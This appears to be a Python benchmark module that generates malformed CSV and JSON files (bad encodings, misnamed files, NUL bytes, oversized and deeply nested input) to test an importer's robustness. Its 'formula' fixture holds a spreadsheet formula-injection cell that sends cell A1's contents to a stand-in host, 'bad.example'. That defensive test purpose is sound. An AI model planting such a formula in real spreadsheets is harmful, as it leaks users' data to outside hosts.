"""Bad files made of text, and those that are no table at all."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from benchmarks.bad_input.sizes import BLOCK, Size
from benchmarks.bad_input.tables import BAD, HEADERS, NEEDED, cells, lines, put, text

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
PAGE = "<!DOCTYPE html><html><head><title>Sign in, please</title></head><body>"
ISSUES = '{"issues": ['


def changed(kind: str, column: int, value: str) -> str:
    """The good table with one cell that is not."""
    row = cells(kind, BAD)
    row[column] = value
    return text(kind, changed={BAD: row})


def wrong_encoding(folder: Path, kind: str, size: Size) -> Path:
    """UTF-8, with one row pasted from elsewhere."""
    good = text(kind).replace(",", ",é", 1).splitlines(keepends=True)
    content = [line.encode("latin-1" if n == BAD else "utf-8") for n, line in enumerate(good, 1)]
    content[BAD - 1] = content[BAD - 1].replace(b",", b",caf\xe9 ", 1)
    return put(folder / "encoding.csv", b"".join(content))


def formula(folder: Path, kind: str, size: Size) -> Path:
    link = '"=HYPERLINK(""http://bad.example?""&A1,""See"")"'
    return put(folder / "formula.csv", changed(kind, 1, link))


def mixed_dates(folder: Path, kind: str, size: Size) -> Path:
    return put(folder / "dates.csv", changed(kind, 3, "31/12/2026"))


def missing_column(folder: Path, kind: str, size: Size) -> Path:
    """The column is there under no name that we know, and holds nothing that tells it."""
    names = ["Blah" if name == NEEDED[kind] else name for name in HEADERS[kind]]
    at = HEADERS[kind].index(NEEDED[kind])
    rows = [cells(kind, number) for number in range(40)]
    table = [names, *([*row[:at], f"x{n}", *row[at + 1 :]] for n, row in enumerate(rows))]
    return put(folder / "missing.csv", "".join(",".join(row) + "\n" for row in table))


def empty(folder: Path, kind: str, size: Size) -> Path:
    return put(folder / "empty.csv", b"")


def header_only(folder: Path, kind: str, size: Size) -> Path:
    return put(folder / "header.csv", text(kind, rows=0))


def image(folder: Path, kind: str, size: Size) -> Path:
    return put(folder / "image.xlsx", PNG)


def web_page(folder: Path, kind: str, size: Size) -> Path:
    """What one saves when the session had ended."""
    rows = "".join(f"<p>Please, sign in again ({n})</p>\n" for n in range(400))
    return put(folder / "page.csv", f"{PAGE}\n{rows}</body></html>\n")


def pdf(folder: Path, kind: str, size: Size) -> Path:
    return put(folder / "report.csv", b"%PDF-1.7\n" + bytes(range(128, 256)) * 100)


def endless_line(folder: Path, kind: str, size: Size) -> Path:
    path = folder / "line.csv"
    with path.open("wb") as stream:
        stream.write(text(kind, rows=0).encode())
        for _ in range(size.line // BLOCK):
            stream.write(b"1," * (BLOCK // 2))
    return path


def unbalanced(folder: Path, kind: str, size: Size) -> Path:
    return put(folder / "quotes.csv", changed(kind, 1, '"never closed'))


def nul(folder: Path, kind: str, size: Size) -> Path:
    return put(folder / "nul.csv", changed(kind, 1, "a\0b"))


def ragged(folder: Path, kind: str, size: Size) -> Path:
    """Each row has a cell too many: an address with an unquoted comma, say."""
    path = folder / "ragged.csv"
    with path.open("w") as stream:
        for number, line in enumerate(lines(kind, rows=size.rows)):
            stream.write(line if number == 0 else line[:-1] + ",more\n")
    return path


def too_many(folder: Path, kind: str, size: Size) -> Path:
    """Good rows, but no hand ever kept so many."""
    path = folder / "rows.csv"
    with path.open("w") as stream:
        stream.writelines(lines(kind, rows=size.rows))
    return path


def deep_json(folder: Path, kind: str, size: Size) -> Path:
    deep = '{"key": "BAD-1", "fields": ' + '{"a": [' * size.depth
    return put(folder / "deep.json", ISSUES + deep)


def endless_text(folder: Path, kind: str, size: Size) -> Path:
    path = folder / "text.json"
    with path.open("wb") as stream:
        stream.write(ISSUES.encode() + b'{"key": "BAD-1", "fields": {"summary": "')
        for _ in range(max(size.line, 12 * BLOCK) // BLOCK):
            stream.write(b"x" * BLOCK)
    return path


def issues(count: int) -> Iterator[str]:
    """Work items as a tracker answers them."""
    for n in range(1, count + 1):
        yield (
            f'{{"id": "{n}", "key": "BAD-{n}", "fields": {{"summary": "Thing {n}", '
            '"issuetype": {"name": "Bug"}, "created": "2026-03-01T09:14:05.000+0000", '
            '"status": {"name": "Open"}}}'
        )


def cut_text(folder: Path, kind: str, size: Size) -> Path:
    whole = ISSUES + ", ".join(issues(400)) + "]}"
    return put(folder / "cut.json", whole[: len(whole) // 2])
